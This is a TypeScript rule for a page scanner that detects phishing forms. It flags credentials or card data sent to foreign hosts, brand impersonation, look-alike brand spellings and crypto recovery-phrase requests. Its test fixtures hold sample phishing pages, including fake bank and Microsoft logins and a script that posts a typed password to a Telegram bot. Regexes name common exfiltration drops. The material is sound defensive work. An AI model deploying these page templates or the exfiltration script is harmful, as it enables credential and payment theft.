import { codePieces } from '../../facts/code/code-pieces.ts';
import { valuesOf } from '../../facts/code/code-values.ts';
import { type Form, type FormField, forms, looseFields, type Sensitive } from '../../facts/forms.ts';
import { mainHeading } from '../../facts/headings.ts';
import { externalLinks } from '../../facts/links.ts';
import { type ForeignTarget, foreignTarget } from '../../grounds/foreign-target.ts';
import { brandDress, disguisedBrand, posedBrand, wornBrand } from '../../grounds/posing-as-brand.ts';
import { wholeWords } from '../../lexicon/whole-words.ts';
import type { Page } from '../../page/page.ts';
import { pageAddress } from '../../page/page-address.ts';
import { perPage } from '../../page/per-page.ts';
import { BICYCLE, CHLEB, LIBRARY } from '../../samples/sample-prose.ts';
import { examplePage, paragraphs } from '../example.ts';
import { type Quote, quoteText, quoteWhole } from '../quote.ts';
import { quoteAct } from '../quote-script.ts';
import { abstain, CLEAR, rule } from '../rule.ts';
import { type Said, sentences } from '../sentences.ts';
import type { Texts } from '../texts.ts';
import { countEn, countPl, quoted, shortened } from '../wording.ts';

const ASKED: Readonly<Record<Sensitive, Texts>> = {
  password: { en: 'a password', pl: 'hasło' },
  card: { en: 'card data', pl: 'dane karty' },
  pin: { en: 'a PIN', pl: 'kod PIN' },
  identity: { en: 'an identity number', pl: 'numer PESEL lub dokumentu' },
  bank: { en: 'bank data', pl: 'dane bankowe' },
};
/** A bot that takes messages is what stolen passwords are sent to; no shop uses it for a form. */
const DROP =
  /api\.telegram\.org\/bot|discord(?:app)?\.com\/api\/webhooks|formspree\.io|emailjs|getform\.io|web3forms|hooks\.slack\.com/i;
const LOG_IN =
  /log ?[io]n|sign ?[io]n|verify|verification|confirm your|account|secure|unlock|zaloguj|logowanie|weryfikacj|potwierdź|konto|konta|connexion|connecter|iniciar ses|acceder|anmeld|einlogg|accedi|accesso|entrar|вход|войти|přihl|inlog|logga in|giriş|ログイン|登录/i;
const SENT_TO_BOT = 0.95;
/** Beside a brand's name a page with a text of its own is an article with a login box. */
const MAX_WORDS = 200;
/** So few are labels and a line of welcome, whatever the title says. */
const MAX_WORDS_BESIDE_FORM = 60;
/** Beside a field for a card or a code there is a sum, a receiver and a word of comfort. */
const MAX_WORDS_BESIDE_CODE = 100;
/** Sign-ins are handed to a firm's other host, a mail provider or a portal on every tenth site. */
const LIKELY = 0.4;

interface Sign {
  readonly score: number;
  readonly says: Said;
  readonly quote: Quote | undefined;
}

const say = sentences({
  sends_away: {
    en: ({ asked, site }: { asked: Sensitive; site: string }) =>
      `A form asks for ${ASKED[asked].en} and sends it to ${site}.`,
    pl: ({ asked, site }) => `Formularz prosi o ${ASKED[asked].pl} i wysyła je na ${site}.`,
  },
  sends_unencrypted: {
    en: ({ asked }: { asked: Sensitive }) =>
      `A form asks for ${ASKED[asked].en} and sends it without encryption (http).`,
    pl: ({ asked }) => `Formularz prosi o ${ASKED[asked].pl} i wysyła je bez szyfrowania (http).`,
  },
  script_sends: {
    en: ({ asked, site }: { asked: Sensitive; site: string }) =>
      `A script reads a form that asks for ${ASKED[asked].en} and sends the data to ${site}.`,
    pl: ({ asked, site }) =>
      `Skrypt odczytuje formularz, który prosi o ${ASKED[asked].pl}, i wysyła dane na ${site}.`,
  },
  poses_as_brand: {
    en: ({ title, asked, brand }: { title: string; asked: Sensitive; brand: string }) =>
      `The page is titled ${quoted.en(title)} and asks for ${ASKED[asked].en}, but its address does not belong to ${brand}.`,
    pl: ({ title, asked, brand }) =>
      `Strona ma tytuł ${quoted.pl(title)} i prosi o ${ASKED[asked].pl}, ale jej adres nie należy do firmy ${brand}.`,
  },
  wears_brand: {
    en: ({ asked, brand }: { asked: Sensitive; brand: string }) =>
      `The page asks for ${ASKED[asked].en} under the logo or the copyright line of ${brand}, but its address does not belong to that company.`,
    pl: ({ asked, brand }) =>
      `Strona prosi o ${ASKED[asked].pl} pod logo lub notą o prawach autorskich firmy ${brand}, ale jej adres do niej nie należy.`,
  },
  dressed_as_brand: {
    en: ({ brand, site, links }: { brand: string; site: string; links: number }) =>
      `The page takes data under the menus of ${brand} (${countEn(links, 'link leads', 'links lead')} to ${site}), but its own address does not belong to that company.`,
    pl: ({ brand, site, links }) =>
      `Strona zbiera dane pod menu firmy ${brand} (${countPl(links, 'link prowadzi', 'linki prowadzą', 'linków prowadzi')} na ${site}), ale jej własny adres do niej nie należy.`,
  },
  spells_brand: {
    en: ({ written, brand }: { written: string; brand: string }) =>
      `The page writes ${quoted.en(written)} with letters that only look like those of ${brand}.`,
    pl: ({ written, brand }) =>
      `Strona zapisuje nazwę ${quoted.pl(written)} literami, które tylko udają nazwę ${brand}.`,
  },
  asks_for_phrase: {
    en: () => 'The page asks visitors to type in the recovery phrase or the private key of a crypto wallet.',
    pl: () => 'Strona prosi o wpisanie frazy odzyskiwania lub klucza prywatnego portfela kryptowalut.',
  },
});

export default rule({
  id: 'sp_phish_form',
  mode: 'spam',
  policy: 'social_engineering',
  kind: 'violation',
  layer: 'markup',
  version: 7,
  title: {
    en: 'A form sends sensitive data to a doubtful place',
    pl: 'Formularz wysyła poufne dane w wątpliwe miejsce',
  },
  fix: {
    en: 'Collect passwords, card and identity data only on your own domain over HTTPS, or hand over openly to a known payment or sign-in service.',
    pl: 'Hasła, dane kart i dokumentów zbieraj wyłącznie na własnej domenie przez HTTPS albo jawnie przekazuj je znanej usłudze płatności lub logowania.',
  },
  question: 'Does a form collect passwords, card or identity data in a suspicious way?',
  sources: ['SE', 'QR§4.5.5'],
  answeredBy: 'code',
  shownBy: 'passages',
  mendedBy: 'code',
  languages: 'any',
  basis: 'measured',
  scoring:
    'A form that asks for card, identity or bank data and is sent to another registrable domain: 0.95; for a password or a PIN 0.85 where that is a collector of forms, a host in numbers, or a bare script on a host that nothing else on the page names, otherwise 0.4; sent over plain HTTP from an HTTPS page: 0.8; typed-in data sent by script to a message bot: 0.95, to another site: 0.8; a login under the name or the copyright line of a well-known brand on a strange host: 0.85, under its logo alone: 0.6; data taken under a brand’s menus, most of whose links lead to the brand: 0.8; a brand’s name in look-alike letters on a page with a form: 0.9; a field or a request for the recovery phrase of a crypto wallet: 0.85. Payment, sign-in and other known services, sites of the same brand (for a password also of an abbreviation that the page calls itself by) and sites that the page openly links to three times do not count, nor does a site that is on plain HTTP all through. Of a page whose own address is unknown only the target of the form speaks: a public host in numbers counts as another domain, a host that nothing else on the page names 0.6, and what scripts send to message bots counts in full; without any of that there is no answer.',
  says: say,
  detect(page) {
    const isPlaced = page.address !== undefined;
    const signs = [
      ...forms(page).flatMap((form) => (isPlaced ? formSigns(page, form) : targetSigns(page, form))),
      ...scriptSigns(page).filter(({ score }) => isPlaced || score >= SENT_TO_BOT),
      ...brandSigns(page),
      ...dressSigns(page),
      ...spellingSigns(page),
      ...phraseSigns(page),
    ].sort((a, b) => b.score - a.score);
    const worst = signs[0];
    if (!worst) return isPlaced ? CLEAR : abstain('needs_fetch');
    return {
      score: worst.score,
      quotes: signs.slice(0, 3).map((sign) => sign.quote),
      facts: [...new Map(signs.map((sign) => [JSON.stringify(sign.says), sign.says])).values()].slice(0, 3),
    };
  },
  examples: () => ({
    hit: [
      examplePage('a password sent elsewhere', {
        found: { says: ['sends_away'], quotes: ['https://collect-box.top/save.php'] },
        title: 'Sign in to read on',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="https://collect-box.top/save.php"><input type="email" name="email"><input type="password" name="pass"><button>Sign in</button></form>`,
      }),
      examplePage('Polish identity and card data sent elsewhere', {
        found: { says: ['sends_away'], quotes: ['https://doplata-paczki.net/p'] },
        title: 'Odbierz paczkę',
        lang: 'pl',
        body: `<p>Dopłać 1,99 zł, aby odebrać paczkę.</p><form method="post" action="https://doplata-paczki.net/p"><input name="pesel" placeholder="PESEL"><input name="cardnumber" autocomplete="cc-number"><input name="cvv"><button>Zapłać</button></form>`,
      }),
      examplePage('a bank’s name on a strange host', {
        found: { says: ['poses_as_brand'], quotes: ['mBank – logowanie do serwisu'] },
        title: 'mBank – logowanie do serwisu',
        lang: 'pl',
        url: 'https://secure-klient24.com/login',
        body: '<p>Zaloguj się, aby potwierdzić konto.</p><form method="post" action="/next"><input name="login"><input type="password" name="haslo"><button>Zaloguj</button></form>',
      }),
      examplePage('an Italian sign-in under a brand’s name on a strange host', {
        found: { says: ['poses_as_brand'], quotes: ['PayPal – Accesso al conto'] },
        title: 'PayPal – Accesso al conto',
        lang: 'it',
        url: 'https://verifica-clienti.info/accesso',
        body: '<p>Inserisci i tuoi dati per continuare.</p><form method="post" action="/avanti"><label>Indirizzo e-mail <input name="utente"></label><label>Parola d’ordine <input type="password" name="chiave"></label><button>Continua</button></form>',
      }),
      examplePage('passwords sent to a bot', {
        found: { says: ['script_sends'], quotes: ["fetch('https://api.telegram.org/bot123:abc/sendMes"] },
        title: 'Members',
        body: `${paragraphs(...BICYCLE)}<form id="f"><input name="user"><input type="password" name="p"><button>Sign in</button></form><script>
          document.getElementById('f').onsubmit = function () { fetch('https://api.telegram.org/bot123:abc/sendMessage?text=' + this.p.value); };</script>`,
      }),
      examplePage('a sign-in that wears a brand at its foot', {
        found: { says: ['wears_brand'], quotes: ['© 2026 Microsoft'] },
        title: 'Sign in',
        heading: '',
        url: 'https://mail-check.top/a',
        body: '<form method="post" action="next.php"><input type="email" name="loginfmt" placeholder="Email, phone, or Skype"><input type="password" name="pw"><button>Next</button></form>',
        footer: '<footer>© 2026 Microsoft. Terms of use</footer>',
      }),
      examplePage('a Polish code of payment on a strange host', {
        found: { says: ['poses_as_brand'], quotes: ['BLIK'] },
        title: 'BLIK',
        heading: 'Płatność BLIK',
        lang: 'pl',
        url: 'https://odbior-przesylki.top/platnosc',
        body: '<form method="post" action="dalej.php"><label>Kod BLIK <input type="tel" name="blikCode"></label><button>Dalej</button></form>',
      }),
      {
        note: 'a pasted page that sends its password to a host in numbers',
        html: '<title>Sign in</title><h1>Sign in to your mailbox</h1><form method="post" action="http://203.0.113.7/in.php"><input name="user"><input type="password" name="pass"><button>Next</button></form>',
        found: { says: ['sends_away'], quotes: ['http://203.0.113.7/in.php'] },
      },
      {
        note: 'a pasted Polish page that sends card data to a host that nothing else on it names',
        html: '<html lang="pl"><title>Dopłata do paczki</title><h1>Dopłata do paczki</h1><p>Dopłać 1,99 zł.</p><form method="post" action="https://zbior-danych.top/p"><input name="cardnumber" autocomplete="cc-number"><input name="cvv"><button>Zapłać</button></form>',
        found: { says: ['sends_away'], quotes: ['https://zbior-danych.top/p'] },
      },
      examplePage('a parcel service’s menus around a button of a kit', {
        found: { says: ['dressed_as_brand'], quotes: ['https://www.poczta-polska.pl/0'] },
        title: 'Śledzenie',
        lang: 'pl',
        url: 'https://odbior-srodkow.top/a',
        before: Array.from(
          { length: 12 },
          (_, i) => `<a href="https://www.poczta-polska.pl/${i}">Usługa ${i}</a> `,
        ).join(''),
        body: '<p>Kupujący już zapłacił. Odbierz środki na kartę.</p><form method="post" action="merchant.php"><button>Odbierz pieniądze</button></form>',
      }),
      examplePage('a brand in letters that only look like its own', {
        found: { says: ['spells_brand'], quotes: ['AppIe'] },
        title: 'Verify',
        url: 'https://id-check.top/',
        body: '<p>Your AppIe ID was locked.</p><form method="post" action="next.php"><input name="login"><input name="code"><button>Unlock</button></form>',
      }),
      examplePage('a bank’s sign-in whose password is typed in plain letters', {
        found: { says: ['poses_as_brand'], quotes: ['BNP Paribas'] },
        title: 'BNP Paribas',
        lang: 'fr',
        url: 'https://acces-clients.top/index',
        body: '<form method="post" action="resultatid.php"><label>Mon numéro client <input type="tel" name="id"></label><label>Mon code secret <input type="text" name="pass"></label><button>Entrer</button></form>',
      }),
      examplePage('a request for the phrase whose boxes a script draws', {
        found: { says: ['asks_for_phrase'], quotes: ['Type your Secret Recovery Phrase'] },
        title: 'Secret phrase',
        url: 'https://wallet-sync.top/import',
        body: '<p>Type your Secret Recovery Phrase</p><form id="words"></form><button>Next</button>',
      }),
      examplePage('the words of a wallet', {
        found: { says: ['asks_for_phrase'], quotes: ['recovery phrase'] },
        title: 'Connect wallet',
        url: 'https://wallet-sync.top/',
        body: '<p>Enter your recovery phrase to claim the airdrop.</p><form method="post" action="/go"><textarea name="phrase"></textarea><button>Connect</button></form>',
      }),
    ],
    clear: [
      examplePage('a bank that signs people in on its other host', {
        title: 'Northern Lane Trust',
        url: 'https://www.northernlanetrust.com/',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="https://www02.nlts.com/pcl/login"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
      }),
      examplePage('a mailbox at a provider, under the name of the site', {
        title: 'Harbour Cycles',
        url: 'https://www.harbourcycles.com/',
        body: `${paragraphs(...BICYCLE)}<form method="post" action="https://harbourcycles.mail.everybody-mail.net/scripts/login.php"><input name="user"><input type="password" name="pass"><button>Check mail</button></form>`,
      }),
      examplePage('a game that is called by a word', {
        title: 'Play For Free | Millfield Saga',
        heading: 'Play for free',
        url: 'https://www.millfieldsaga.com/',
        body: '<p>Sign in to your account.</p><form method="post" action="/login"><input name="user"><input type="password" name="pass"><button>Play</button></form>',
      }),
      examplePage('buttons of other services beside the own sign-in', {
        title: 'Sign in – Mill Town Library',
        body: '<form method="post" action="/login"><input name="user"><input type="password" name="pass"><button>Sign in</button></form><button><img src="/g.svg" alt="Google"> Continue with Google</button> <a class="social" href="/auth/fb"><img src="/f.svg" alt="Facebook"></a>',
        footer: '<footer>© 2026 Mill Town Library</footer>',
      }),
      examplePage('a sister site with the same abbreviation', {
        title: 'Join the club',
        url: 'https://hcw4.net/join',
        body: `${paragraphs(...LIBRARY)}<p>Why you will love HCW: HCW costs nothing, and one person who joins HCW today wins a bell.</p><form method="post" action="https://hcwimg.net/register.php"><input name="email"><input type="password" name="password"><button>Join</button></form>`,
      }),
      examplePage('a firm’s own mail server', {
        title: 'Outlook',
        heading: '',
        url: 'https://mail.harbourcycles.net/owa/auth/logon.aspx',
        body: '<form method="post" action="/owa/auth.owa"><input name="username"><input type="password" name="password"><button>Sign in</button></form>',
        footer: '<footer>© 2026 Microsoft</footer>',
      }),
      examplePage('an address that was written down without https', {
        title: 'Members of the library',
        url: 'http://www.harbour-library.com/',
        head: '<link rel="canonical" href="https://www.harbour-library.com/">',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="/login"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
      }),
      examplePage('a sign-in of a site on plain http, to itself', {
        title: 'Czytelnia',
        lang: 'pl',
        url: 'http://www.czytelnia-portowa.pl/',
        body: `${paragraphs(...CHLEB)}<form method="post" action="http://www.czytelnia-portowa.pl/wejscie"><input name="login"><input type="password" name="haslo"><button>Zaloguj</button></form>`,
      }),
      examplePage('a login on the own domain', {
        title: 'Members of the library',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="/login"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
      }),
      examplePage('hand-over to a payment service', {
        title: 'Your order',
        body: `${paragraphs(...BICYCLE)}<form method="post" action="https://checkout.stripe.com/pay"><input name="cardnumber" autocomplete="cc-number"><button>Pay</button></form>`,
      }),
      examplePage('a sister site of the brand', {
        title: 'Chleb i woda',
        lang: 'pl',
        url: 'https://www.breadhouse.com/pl',
        body: `${paragraphs(...CHLEB)}<form method="post" action="https://konto.breadhouse.pl/wejscie"><input name="email"><input type="password" name="haslo"><button>Zaloguj się</button></form>`,
      }),
      examplePage('the sign-in of a sister site that menu and footer link to', {
        title: 'Science news of the day',
        url: 'https://www.lab-dispatch.com/',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="https://readersclub.net/enter"><input name="email"><input type="password" name="pass"><button>Sign in</button></form>`,
        footer:
          '<footer><a href="https://readersclub.net/about">About the publisher</a> <a href="https://readersclub.net/join">Join the club</a> <a href="https://readersclub.net/help">Help</a> <a href="/privacy">Privacy policy</a></footer>',
      }),
      examplePage('an article about a brand’s login, with the site’s own login box', {
        title: 'How to secure your Google account',
        body: `${paragraphs(...LIBRARY, ...BICYCLE)}<form method="post" action="/login"><input name="user"><input type="password" name="pass"></form>`,
      }),
    ],
  }),
});

function sensitiveOf(fields: readonly FormField[]): Sensitive | undefined {
  const kinds = fields.flatMap((field) => field.sensitive ?? []);
  return kinds.find((kind) => kind !== 'password') ?? kinds[0];
}

function formSigns(page: Page, form: Form): Sign[] {
  const asked = sensitiveOf(form.fields);
  if (asked === undefined) return [];
  const quote = quoteWhole(page, { in: 'attribute', element: form.element, name: 'action' });
  const target = foreignTarget(page, form.action, 'hosts');
  if (target && asked === 'password' && sharesMark(page, target.site)) return [];
  if (target && !isOpenlyLinked(page, target.site)) {
    const isKey = asked === 'password' || asked === 'pin';
    return [
      {
        score: !isKey ? 0.95 : isCollector(page, form, target) ? 0.85 : LIKELY,
        says: say.sends_away({ asked, site: target.site }),
        quote,
      },
    ];
  }
  // A whole site on plain http, or an address whose scheme was only assumed, sends nothing to a doubtful place.
  if (!form.insecure || target || !pageAddress(page).secure || page.url === undefined) return [];
  return [{ score: 0.8, says: say.sends_unencrypted({ asked }), quote }];
}

/** Services that take forms for anybody, hosting for an hour, and names that change their place. */
const COLLECTORS =
  /(?:^|\.)(?:formspree\.io|formsubmit\.co|getform\.io|web3forms\.com|zohopublic\.\w+|jotform\.com|typeform\.com|000webhostapp\.com|herokuapp\.com|firebaseapp\.com|web\.app|netlify\.app|vercel\.app|workers\.dev|pages\.dev|glitch\.me|ngrok\.io|ngrok-free\.app|repl\.co|duckdns\.org|ddns\.net|no-ip\.\w+)$/i;
/** "save.php", "post.php": what a kit writes its loot with. */
const KIT_SCRIPT =
  /\/(?:save|send|post|next|log|login|submit|process|result\w*|action|mail|data|store|check|verify|in|p)\.(?:php|cgi|asp)$/i;

function isCollector(page: Page, form: Form, { host, site, url }: ForeignTarget): boolean {
  if (COLLECTORS.test(host) || ADDRESS_IN_NUMBERS.test(host)) return true;
  // "ourname.mail.provider.net" is ours.
  const own = pageAddress(page).site.split('.', 1)[0] ?? '';
  if (own.length > 2 && url.toLowerCase().includes(own)) return false;
  return KIT_SCRIPT.test(URL.parse(url)?.pathname ?? '') && !isNamedElsewhere(page, form, site);
}

const UNNAMED_HOST = 0.6;
const ADDRESS_IN_NUMBERS = /^(?:\d{1,3}(?:\.\d{1,3}){3}|\[[0-9a-f:.]+\])$/i;
/** Routers, servers at home and the machine itself. */
const PRIVATE_ADDRESS =
  /^(?:(?:0|10|127)\.|169\.254\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|\[(?:::1?\]|f[cde]))/i;

/** Nobody knows where the page stands: whether it sends data away can only be told by where it sends them. */
function targetSigns(page: Page, form: Form): Sign[] {
  const asked = sensitiveOf(form.fields);
  const target = asked === undefined ? undefined : foreignTarget(page, form.action, 'hosts');
  if (asked === undefined || !target || PRIVATE_ADDRESS.test(target.host)) return [];
  const inNumbers = ADDRESS_IN_NUMBERS.test(target.host);
  // A saved page of the site itself names its site in links, pictures or scripts, too.
  if (!inNumbers && isNamedElsewhere(page, form, target.site)) return [];
  return [
    {
      score: inNumbers ? (asked === 'password' ? 0.85 : 0.95) : UNNAMED_HOST,
      says: say.sends_away({ asked, site: target.site }),
      quote: quoteWhole(page, { in: 'attribute', element: form.element, name: 'action' }),
    },
  ];
}

function isNamedElsewhere(page: Page, { element: own }: Form, site: string): boolean {
  return page.dom.elements.some(
    ({ attribs, name }, number) =>
      number !== own &&
      name !== 'form' &&
      [attribs.href, attribs.src, attribs.content, attribs.srcset].some((value) =>
        value?.toLowerCase().includes(site),
      ),
  );
}

/** Menus and footers lead to the sister site that signs people in; nobody links to where stolen passwords go. */
const MIN_OPEN_LINKS = 3;

function isOpenlyLinked(page: Page, site: string): boolean {
  const addresses = new Set<string>();
  for (const link of externalLinks(page))
    if (link.site === site && !link.hidden && link.text.trim() !== '') addresses.add(link.url);
  return addresses.size >= MIN_OPEN_LINKS;
}

const MIN_MARKS = 3;
const MARK = wholeWords(/\b[A-Z]{3,6}\b/gu);

/** “SFI” on sfi4.com and sfimg.com: both names begin with an abbreviation that the page calls itself by. */
function sharesMark(page: Page, site: string): boolean {
  const own = pageAddress(page).site;
  const counts = new Map<string, number>();
  for (const [mark] of page.text.matchAll(MARK)) {
    const name = mark.toLowerCase();
    if (own.startsWith(name) && site.startsWith(name)) counts.set(name, (counts.get(name) ?? 0) + 1);
  }
  return [...counts.values()].some((count) => count >= MIN_MARKS);
}

/** What is typed in is sent away by a script. */
function scriptSigns(page: Page): Sign[] {
  const asked = sensitiveOf([...forms(page).flatMap((form) => form.fields), ...looseFields(page)]);
  if (asked === undefined) return [];
  const signs: Sign[] = [];
  for (const piece of codePieces(page)) {
    for (const act of piece.structure.calls) {
      const sends = act.name === 'fetch' || act.name === 'sendBeacon';
      const opens = act.name === 'open' && /^post$/i.test(act.value ?? '');
      if (!sends && !opens) continue;
      const place = sends ? act.after + 1 : act.after + 3;
      const address = valuesOf(page, piece, place)[0]?.text ?? '';
      const drop = DROP.test(address);
      const target = foreignTarget(page, address, 'hosts');
      // Counting and error reports are sent to others on every page: only a script that reads the fields counts.
      const { code } = piece.tokens;
      const reads =
        /\.value\b|FormData|serialize\(/.test(code) &&
        (drop || /passw|\bcard|\bpin\b|pesel|\bcvv|iban|hasl/i.test(code));
      if (!reads || (!drop && !target)) continue;
      const site = target?.site ?? URL.parse(address)?.hostname ?? '';
      signs.push({
        score: drop ? SENT_TO_BOT : 0.8,
        says: say.script_sends({ asked, site }),
        quote: quoteAct(page, piece, act),
      });
    }
  }
  return signs;
}

/** Sign-in pages of programs that firms run on hosts of their own show their maker's name: Exchange, ADFS. */
const OWN_SERVER = /\/(?:adfs|owa|exchange|ecp|citrix|remote)\//i;
const MASKS_OF_BRAND = 0.85;
/** A logo may be that of a customer, a partner or a way to sign in. */
const MASKS_OF_LOGO = 0.6;

/** What is asked for in sight, or by a form that a script shows on a page with hardly anything else. */
const askedHere = perPage((page): Sensitive | undefined => {
  const shown = forms(page).filter((form) => !form.hidden || page.wordCount <= MAX_WORDS_BESIDE_FORM);
  const fields = shown.flatMap((form) => form.fields);
  const asked = sensitiveOf(fields) ?? sensitiveOf(looseFields(page));
  if (asked !== undefined || page.wordCount > MAX_WORDS_BESIDE_FORM || !LOG_IN.test(calledOf(page)))
    return asked;
  // Fields without a name, under labels that say what goes in.
  const bare = [...fields, ...looseFields(page)].filter(({ type }) => type === 'text' || type === 'email');
  return bare.length >= 2 && PASSWORD_LABEL.test(page.text) ? 'password' : undefined;
});

const PASSWORD_LABEL = wholeWords(/\b(?:password|mot de passe|contraseña|passwort|senha)\b|hasło/iu);

function calledOf(page: Page): string {
  return `${page.head.title} ${mainHeading(page)?.text ?? ''}`;
}

function brandSigns(page: Page): Sign[] {
  if (page.wordCount > MAX_WORDS) return [];
  const asked = askedHere(page);
  if (asked === undefined) return [];
  const { base } = pageAddress(page);
  if (OWN_SERVER.test(base?.pathname ?? '') || forms(page).some((form) => OWN_SERVER.test(form.action)))
    return [];
  // In a language whose words for signing in are not known here, a page of little else than the form says the same.
  const few = asked === 'password' || asked === 'card' ? MAX_WORDS_BESIDE_FORM : MAX_WORDS_BESIDE_CODE;
  if (!LOG_IN.test(calledOf(page)) && page.wordCount > few) return [];
  const brand = posedBrand(page);
  if (brand !== undefined)
    return [
      {
        score: MASKS_OF_BRAND,
        says: say.poses_as_brand({ title: shortened(page.head.title, 60), asked, brand: written(brand) }),
        quote: quoteWhole(page, { in: 'title' }),
      },
    ];
  const mark = wornBrand(page);
  if (mark === undefined || page.wordCount > MAX_WORDS_BESIDE_FORM) return [];
  return [
    {
      score: mark.in === 'copyright' ? MASKS_OF_BRAND : MASKS_OF_LOGO,
      says: say.wears_brand({ asked, brand: written(mark.brand) }),
      quote:
        mark.in === 'copyright'
          ? quoteText(page, mark.span)
          : quoteWhole(page, { in: 'attribute', element: mark.element, name: 'alt' }),
    },
  ];
}

const DRESSED = 0.8;
const SPELT = 0.9;

/** A brand's menus and footer around a form that is sent to a script of this host: how kits are made. */
function dressSigns(page: Page): Sign[] {
  const dress = page.wordCount > MAX_WORDS ? undefined : brandDress(page);
  if (!dress) return [];
  const takes = forms(page).some(
    ({ kind, action, external }) => kind !== 'search' && !external && /\.php\b/i.test(action),
  );
  if (!takes && askedHere(page) === undefined) return [];
  const { brand, site, links } = dress;
  const first = externalLinks(page).find((link) => link.site === site);
  return [
    {
      score: DRESSED,
      says: say.dressed_as_brand({ brand: written(brand), site, links }),
      quote: first && quoteWhole(page, { in: 'attribute', element: first.element, name: 'href' }),
    },
  ];
}

/** Letters are exchanged to pass by the filters that look for the brand. Articles on that trick have no form for it. */
function spellingSigns(page: Page): Sign[] {
  const found = page.wordCount > MAX_WORDS ? undefined : disguisedBrand(page);
  const asks = forms(page).some(({ kind, fields }) => kind !== 'search' && fields.length > 0);
  const inTitle = found && page.head.title.includes(page.text.slice(found.start, found.end));
  if (!found || (!asks && !inTitle && looseFields(page).length === 0)) return [];
  return [
    {
      score: SPELT,
      says: say.spells_brand({
        written: page.text.slice(found.start, found.end),
        brand: written(found.brand),
      }),
      quote: quoteText(page, found),
    },
  ];
}

function written(brand: string): string {
  return brand.replace(/(^|[\s-])\p{L}/gu, (letter) => letter.toUpperCase());
}

const PHRASE_FIELD = /phrase|mnemonic|seed|private.?key|keystore|fraz|słowa odzysk/i;
const PHRASE_TEXT = wholeWords(
  /\b(?:recovery|seed|secret|backup|mnemonic)[- ]phrase|\b(?:12|24|twelve|twenty-four)[- ]words?\b|\bprivate key\b|\bkeystore json\b|12 \(sometimes 24\)|fraz\p{L} (?:odzyskiwania|seed|bezpieczeństwa)|klucz prywatny/iu,
);
/** Wallets of their own makers restore by the same words. */
const WALLETS =
  /(?:^|\.)(?:metamask\.io|trustwallet\.com|myetherwallet\.com|mycrypto\.com|blockchain\.com|exodus\.com|phantom\.app|electrum\.org|trezor\.io|ledger\.com|keplr\.app)$/;
const REQUEST = wholeWords(
  /\b(?:enter|type(?: in)?|paste|input|import(?: with)?|provide|wpisz|podaj|wprowadź|wklej)\b[^.!?]{0,60}\b(?:(?:secret|recovery|seed|mnemonic|backup)[- ](?:recovery )?phrase|passphrase|private key|fraz[ęy] (?:odzyskiwania|seed)|klucz prywatny)/iu,
);
const ASKS_FOR_PHRASE = 0.85;

/** The words that a wallet is restored by: whoever has them has the money. */
function phraseSigns(page: Page): Sign[] {
  if (page.wordCount > MAX_WORDS || WALLETS.test(pageAddress(page).host)) return [];
  const fields = [...forms(page).flatMap((form) => form.fields), ...looseFields(page)];
  const field = fields.find(({ element, name, type }) => {
    if (type === 'search' || type === 'checkbox' || type === 'radio' || type === 'select') return false;
    const { placeholder, id } = page.dom.elements[element]?.attribs ?? {};
    return PHRASE_FIELD.test(`${name} ${id ?? ''} ${placeholder ?? ''}`.slice(0, 300));
  });
  // Boxes for twelve words are often drawn by a script: the request and a form are left.
  const asks = page.wordCount <= MAX_WORDS_BESIDE_FORM && (fields.length > 0 || forms(page).length > 0);
  const match = field ? PHRASE_TEXT.exec(page.text) : asks ? REQUEST.exec(page.text) : null;
  if (!match) return [];
  return [
    {
      score: ASKS_FOR_PHRASE,
      says: say.asks_for_phrase(),
      quote: quoteText(page, { start: match.index, end: match.index + match[0].length }),
    },
  ];
}
